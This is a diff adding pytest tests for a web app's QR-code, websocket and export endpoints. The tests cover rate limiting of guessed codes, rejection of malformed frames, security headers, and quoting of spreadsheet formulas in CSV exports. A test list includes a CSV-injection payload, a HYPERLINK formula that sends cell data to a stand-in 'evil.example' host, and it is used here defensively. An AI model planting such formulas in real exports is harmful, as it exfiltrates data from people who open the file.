@@ -3,14 +3,21 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
+import os
 import re
+from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
 from websockets.asyncio.client import connect
 from websockets.exceptions import InvalidStatus
 
+from battles.app import SECURITY_HEADERS
+from battles.views import spreadsheet_safe
 from tests.clients import Client
 from tests.servers import Server
 
@@ -89,6 +96,44 @@ def test_the_qr_code_encodes_the_join_link(server: Server) -> None:
     response = httpx.get(f"{server.url}/qr/{created['code']}.svg")
     assert response.status_code == 200 and response.headers["content-type"].startswith("image/svg+xml")
     assert response.text.lstrip().startswith("<svg")
+
+
+def cpu_seconds(pid: int) -> float:
+    """User and system CPU time of a process so far (proc(5): fields 14 and 15)."""
+    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def test_only_a_battle_gets_a_qr_code_drawn_once_and_every_miss_counts(tmp_path: Path) -> None:
+    """`GET /qr/<2,400 characters>.svg` was a 500 with a traceback, 2,000 characters cost
+    150 to 200 ms of the event loop each, none of it counted as a failed lookup, and the
+    QR code of a real battle was drawn again for every request."""
+    server = Server(f"sqlite:///{tmp_path / 'b.sqlite3'}", tmp_path / "server.log", lookup_failure_burst=6).start()
+    try:
+        code = server.create_battle(title="T", battlers=BATTLERS)["code"]
+        assert server.process is not None
+        with httpx.Client(base_url=server.url) as client:
+            drawn = client.get(f"/qr/{code}.svg")
+            assert drawn.status_code == 200 and drawn.content == client.get(f"/qr/{code.lower()}.svg").content
+            # Drawn once: a hundred more cost the server about what a hundred /healthz do
+            # (before, each one drew the code again: several times as much).
+            costs = {}
+            for path in (f"/qr/{code}.svg", "/healthz") * 2:  # the second round counts
+                before = cpu_seconds(server.process.pid)
+                assert all(client.get(path).status_code == 200 for _ in range(100))
+                costs[path] = cpu_seconds(server.process.pid) - before
+            assert costs[f"/qr/{code}.svg"] < 2 * costs["/healthz"] + 0.05, costs
+            guesser = {"X-Forwarded-For": "203.0.113.9"}
+            for guess in ("A" * 2400, "B" * 2000, "NOPE22", "K7RM2Q", "abc", code + "0" * 20):
+                missed = client.get(f"/qr/{guess}.svg", headers=guesser)
+                assert missed.status_code == 404 and missed.headers["x-frame-options"] == "DENY", missed.text[:200]
+            # The misses counted: now even a real battle's QR code is refused to that address.
+            assert client.get(f"/qr/{code}.svg", headers=guesser).status_code == 429
+            assert client.get(f"/qr/{code}.svg").status_code == 200
+    finally:
+        server.stop()
+    log = (tmp_path / "server.log").read_text()
+    assert "Traceback" not in log and "DataOverflow" not in log, log[-3000:]
 
 
 async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(server: Server) -> None:
@@ -191,3 +236,140 @@ def test_the_catalogs_are_a_file_the_browser_keeps(server: Server) -> None:
     assert catalogs.headers["cache-control"] == "public, max-age=31536000, immutable"
     assert catalogs.json()["da"]["Next step"] == "Næste skridt"
     assert httpx.get(f"{server.url}/i18n/000000000000.json").status_code == 404
+
+
+@pytest.mark.parametrize(
+    "rules, problem",
+    [
+        ({"turn_seconds": "90"}, "turn_seconds"),
+        ({"turn_seconds": True}, "turn_seconds"),
+        ({"live_totals": "yes"}, "live_totals"),
+        ({"live_totals": 1}, "live_totals"),
+    ],
+)
+def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(server: Server, rules: dict[str, object], problem: str) -> None:
+    response = httpx.post(f"{server.url}/api/battles", json={"title": "T", "battlers": BATTLERS, "rules": rules})
+    assert response.status_code == 422, response.text
+    assert problem in json.dumps(response.json()["details"])
+
+
+async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(tmp_path: Path) -> None:
+    """A lone surrogate ("\\ud800", a JSON escape of half a UTF-16 pair) once got `internal`
+    and a traceback per frame, and past the rate limit the error reply itself could not be
+    encoded: the socket died with 1006."""
+    server = Server(f"sqlite:///{tmp_path / 'b.sqlite3'}", tmp_path / "server.log", message_burst=5, message_rate=5).start()
+    try:
+        created = server.create_battle(title="T", battlers=BATTLERS)
+        phone = await Client.connect(server.ws_url, "audience", created["code"])
+        host = await Client.connect(server.ws_url, "host", created["code"], created["host_token"])
+        lone = ['{"type":"ping","t":1,"id":"\\ud800"}', '{"type":"set_nickname","nickname":"a\\udfff","id":"n1"}',
+                '{"type":"ping","t":1,"\\ud83d":1,"id":"k1"}', '{"type":"edit_battle","seq":0,"title":"\\ud800x","id":"e1"}']
+        for frame, request_id in zip(lone, [None, "n1", "k1"]):
+            await phone.socket.send(frame)
+            refused = await phone.expect("error")
+            assert (refused["reason"], refused["id"]) == ("bad_message", request_id), refused
+        await host.socket.send(lone[3])
+        assert (await host.expect("error"))["reason"] == "bad_message"
+        # Past the limit, the rate_limited reply must not echo the lone surrogate either.
+        for _ in range(10):
+            await phone.socket.send(lone[0])
+        reasons = [(await phone.expect("error"))["reason"] for _ in range(10)]
+        assert "rate_limited" in reasons and set(reasons) <= {"rate_limited", "bad_message"}
+        await asyncio.sleep(2.5)  # out of debt at message_rate
+        assert (await phone.request({"type": "ping", "t": 2}))["type"] == "pong"
+        assert phone.socket.close_code is None and host.battle["title"] == "T"
+        await asyncio.gather(phone.close(), host.close())
+    finally:
+        server.stop()
+    log = (tmp_path / "server.log").read_text()
+    assert "Traceback" not in log and "Exception in ASGI" not in log, log[-3000:]
+
+
+async def test_binary_frames_and_loose_types_are_refused_on_the_socket(server: Server) -> None:
+    """docs/protocol.md: text frames of JSON, every field of its own type."""
+    created = server.create_battle(title="T", battlers=BATTLERS)
+    host = await Client.connect(server.ws_url, "host", created["code"], created["host_token"])
+    phone = await Client.connect(server.ws_url, "audience", created["code"])
+    await phone.socket.send(json.dumps({"type": "ping", "t": 1, "id": "b1"}).encode())
+    assert (await phone.expect("error"))["reason"] == "binary_frame"
+    await host.socket.send(json.dumps({"type": "resync", "id": "b2"}).encode())
+    assert (await host.expect("error"))["reason"] == "binary_frame"
+    await host.run("start_round")
+    version = host.battle["version"]
+    for fields in (
+        {"type": "extend_timer", "seconds": "90"},
+        {"type": "extend_timer", "seconds": True},
+        {"type": "edit_battle", "rules": {"live_totals": "yes"}},
+        {"type": "edit_battle", "rules": {"turn_seconds": "120"}},
+        {"type": "edit_battle", "rules": {"live_totals": 1}},
+    ):
+        refused = await host.command(fields.pop("type"), **fields)  # type: ignore[arg-type]
+        assert refused["reason"] == "bad_message", refused
+    assert (await phone.request({"type": "ping", "t": "1"}))["reason"] == "bad_message"
+    assert (await phone.request({"type": "ping", "t": True}))["reason"] == "bad_message"
+    # A seq that is not an integer is no seq at all.
+    assert (await host.request({"type": "next", "seq": str(host.seq)}))["reason"] == "seq_required"
+    await host.request({"type": "resync"})
+    assert host.battle["version"] == version and phone.socket.close_code is None
+    await host.run("next")  # the first turn, on the clock
+    assert (await host.command("extend_timer", seconds=90))["type"] == "ack"
+    await asyncio.gather(host.close(), phone.close())
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)"]
+
+
+async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(server: Server) -> None:
+    """A battler named =HYPERLINK(...), or =2+2 added by a co-host, came out raw in
+    export.csv, where a spreadsheet runs it (OWASP, CSV injection)."""
+    battlers = [{"name": name, "vision": "A vision"} for name in FORMULAS[:3]]
+    created = server.create_battle(title="=1+1", battlers=battlers, topic="@topic")
+    cohost = await Client.connect(server.ws_url, "cohost", created["code"], created["cohost_token"])
+    await cohost.run("add_battler", name=FORMULAS[3], vision="=2+2")
+    await cohost.close()
+    auth = {"authorization": f"Bearer {created['host_token']}"}
+    base = f"{server.url}/api/battles/{created['code']}/export"
+    table = list(csv.DictReader(io.StringIO(httpx.get(f"{base}.csv", headers=auth).text)))
+    names = {row["name"] for row in table if row["section"] == "battler"}
+    assert names == {"'" + name for name in FORMULAS}, names
+    cells = [cell for row in table for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert {"'=1+1", "'@topic", "'=2+2"} <= set(cells)
+    # JSON is data, not a spreadsheet: exactly as typed.
+    exported = httpx.get(f"{base}.json", headers=auth).json()["battle"]
+    assert [b["name"] for b in exported["battlers"]] == FORMULAS
+    assert (exported["title"], exported["topic"], exported["battlers"][3]["vision"]) == ("=1+1", "@topic", "=2+2")
+
+
+@pytest.mark.parametrize("cell", ["\tx", "\rx", "=x", "+x", "-x", "@x"])
+def test_every_formula_start_is_quoted(cell: str) -> None:
+    """Tabs and returns cannot start a name (names are stripped), but may start other text."""
+    assert spreadsheet_safe(cell) == "'" + cell
+    assert spreadsheet_safe("x" + cell) == "x" + cell and spreadsheet_safe(-3) == -3
+
+
+async def test_every_response_carries_the_security_headers_a_500_included(redis_server: Any, tmp_path: Path) -> None:
+    """Starlette answers an unexpected error outside the app's middleware: a 500 (here: the
+    store went away under a page load) once came without any of the headers."""
+    server = Server(redis_server.url, tmp_path / "server.log").start()
+    try:
+        code = server.create_battle(title="T", battlers=BATTLERS)["code"]
+        answers = [
+            httpx.get(f"{server.url}/join/{code}"),
+            httpx.get(f"{server.url}/join/NOPE22"),
+            httpx.post(f"{server.url}/api/battles", json={"title": ""}),
+            httpx.put(f"{server.url}/api/battles"),
+            httpx.get(f"{server.url}/static/missing.js"),
+        ]
+        redis_server.stop()
+        try:
+            failed = httpx.get(f"{server.url}/join/{code}", timeout=30)
+        finally:
+            redis_server.start()
+        assert failed.status_code == 500 and "Traceback" not in failed.text
+        assert [a.status_code for a in answers] == [200, 404, 422, 405, 404]
+        for answer in [*answers, failed]:
+            missing = {k: v for k, v in SECURITY_HEADERS.items() if answer.headers.get(k) != v}
+            assert not missing, (answer.status_code, answer.url, missing)
+    finally:
+        server.stop()
